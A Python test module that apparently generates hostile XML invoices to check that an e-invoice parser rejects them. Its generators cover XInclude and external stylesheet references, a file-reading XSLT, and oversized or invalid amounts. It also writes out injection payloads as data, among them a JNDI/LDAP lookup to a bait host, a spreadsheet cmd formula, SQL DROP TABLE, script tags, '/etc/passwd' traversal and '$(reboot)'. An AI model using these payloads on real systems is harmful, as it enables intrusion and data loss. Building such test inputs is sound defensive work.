"""Well-formed XML that refers to what is elsewhere, or is no right invoice."""

import re
from random import Random
from xml.sax.saxutils import escape

from tests.hostile._hostile import Bait, sample
from tests.hostile._xml_builder import CII, UBL, any_invoice, bare, inside, on_root, wrong_total


def xinclude(rng: Random, bait: Bait) -> bytes:
    url = rng.choice(bait.urls())
    how = rng.choice(('parse="text"', 'parse="xml"', 'xpointer="xpointer(/*)"'))
    tag = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{url}" {how}/>'
    return inside(wrong_total(sample(rng.choice(UBL + CII))), tag.encode())


def schema_location(rng: Random, bait: Bait) -> bytes:
    """The addresses of schemas are hints that nobody may follow; the invoice itself is wrong."""
    url = rng.choice(bait.urls())
    name = rng.choice(("schemaLocation", "noNamespaceSchemaLocation"))
    value = f"urn:x {url}" if name == "schemaLocation" else url
    attribute = f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:{name}="{value}"'
    return on_root(wrong_total(sample(rng.choice(UBL + CII))), attribute.encode())


def stylesheet(rng: Random, bait: Bait) -> bytes:
    url = rng.choice(bait.urls())
    document = wrong_total(sample(rng.choice(UBL + CII)))
    link = f'<?xml-stylesheet type="text/xsl" href="{url}"?>'.encode()
    model = f'<?xml-model href="{url}"?>'.encode()
    return b'<?xml version="1.0"?>\n' + rng.choice((link, model, link + model)) + bare(document)


def transformation(rng: Random, bait: Bait) -> bytes:
    """A stylesheet that reads files, called an invoice."""
    url = rng.choice(bait.urls())
    call = rng.choice((f"document('{url}')", f"unparsed-text('{url}')", f"doc('{url}')"))
    return (
        '<xsl:stylesheet version="3.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
        f'<xsl:import href="{url}"/><xsl:template match="/"><xsl:copy-of select="{call}"/>'
        f'<xsl:result-document href="{bait.file}.out">x</xsl:result-document>'
        "</xsl:template></xsl:stylesheet>"
    ).encode()


def injection(rng: Random, bait: Bait) -> bytes:
    """Text that is a command for a terminal, a spreadsheet, a database or a browser, in an invoice that
    does not add up."""
    text = rng.choice(
        ("=cmd|'/c calc'!A1", "=HYPERLINK(\"http://x\")", "'); DROP TABLE invoices;--",
         "<script>alert(1)</script>",
         "${jndi:ldap://" + bait.host + "/a}", "{{7*7}}", "%s%s%n", "../../../etc/passwd",
         "\u202egpj.exe", "\u2066x",
         "\u0085\u009b31m", "$(reboot)", "`id`", "@SUM(1)", "a" * 40_000, "\u0300" * 500)
    )  # fmt: skip
    document = wrong_total(sample(rng.choice(UBL + CII)))
    return re.sub(
        rb"(<(?:\w+:)?(?:Name|RegistrationName|ID)>)[^<]*",
        lambda m: m[1] + escape(text).encode(),
        document,
        count=rng.randint(1, 6),
    )


def wrong_sum(rng: Random, bait: Bait) -> bytes:
    return wrong_total(sample(rng.choice(UBL + CII)))


def wrong_number(rng: Random, bait: Bait) -> bytes:
    """Amounts that are no amounts, dates that are no dates."""
    value = rng.choice(
        (
            b"NaN",
            b"1e9",
            b"Infinity",
            b"0x10",
            b"1,00",
            b"",
            b"--1",
            b"9" * 5000,
            b"\xd9\xa1\xd9\xa2",
        )
    )
    name = rb"PayableAmount|DuePayableAmount|GrandTotalAmount|TaxInclusiveAmount"
    document = sample(rng.choice(UBL + CII))
    return re.sub(rb"(<(?:\w+:)?(?:" + name + rb")[^>]*>)[^<]*", lambda m: m[1] + value, document)


def other_recipient(rng: Random, bait: Bait) -> bytes:
    return sample("ubl-wrong-recipient.xml")


def incomplete(rng: Random, bait: Bait) -> bytes:
    return sample(
        rng.choice(("ubl-missing-fields.xml", "ubl-out-of-schema.xml", "ubl-wrong-total.xml"))
    )


def no_invoice(rng: Random, bait: Bait) -> bytes:
    """XML that is no invoice: orders, feeds, pages and drawings with scripts, a national format."""
    made = (
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        b'<html xmlns="http://www.w3.org/1999/xhtml"><script src="http://x"/></html>',
        b'<?xml version="1.0"?><project><target name="x"><exec executable="sh"/></target></project>',
        b'<wsdl:definitions xmlns:wsdl="http://schemas.xmlsoap.org/wsdl/"/>',
    )
    known = [sample(name) for name in ("ubl-order.xml", "feed.xml", "fatturapa.xml")]
    return rng.choice((*made, *known))


def other_namespace(rng: Random, bait: Bait) -> bytes:
    return re.sub(rb"urn:(oasis|un|ferd):", b"urn:evil:", any_invoice(rng))


def many_lines(rng: Random, bait: Bait) -> bytes:
    """The lines of an invoice, some thousand times: they do not add up."""
    document = sample("ubl-invoice.xml")
    line = document[
        document.index(b"<cac:InvoiceLine>") : document.rindex(b"</cac:InvoiceLine>") + 18
    ]
    return document.replace(line, line * rng.randint(500, 2000))
